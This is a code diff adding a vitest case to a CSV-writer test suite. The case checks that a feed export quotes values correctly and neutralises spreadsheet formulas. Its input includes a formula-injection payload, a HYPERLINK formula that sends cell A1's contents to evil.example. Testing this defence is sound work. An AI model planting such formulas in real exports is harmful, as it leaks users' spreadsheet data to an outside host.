@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { csvTexto, escreverCsv } from '../src/csv.js';
+import { CSV_FEED, csvTexto, escreverCsv } from '../src/csv.js';
 
-describe('escreverCsv (the one CSV writer: products and merchants exports)', () => {
+describe('escreverCsv (the one CSV writer: products and merchants exports, the Meta feed)', () => {
   it("writes Excel pt-BR's format: BOM, ';', CRLF, quotes only where needed", () => {
     expect(
       escreverCsv([
@@ -23,6 +23,19 @@ describe('escreverCsv (the one CSV writer: products and merchants exports)', () 
       expect(csvTexto(linha.replace(/^"|"$/g, ''))).toBe(valor);
     },
   );
+
+  it("writes a channel's feed as RFC 4180 (',', LF, no BOM), formulas neutralised the same way", () => {
+    expect(
+      escreverCsv(
+        [
+          ['id', 'title'],
+          ['a1', '=HYPERLINK("http://evil.example/?"&A1,"Clique")'],
+          ['b2', 'Pão, "o melhor"'],
+        ],
+        CSV_FEED,
+      ),
+    ).toBe('id,title\na1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Clique"")"\nb2,"Pão, ""o melhor"""\n');
+  });
 
   it('when a cell starts with an apostrophe before ordinary text, then the import keeps it', () => {
     expect(csvTexto("'90s")).toBe("'90s");
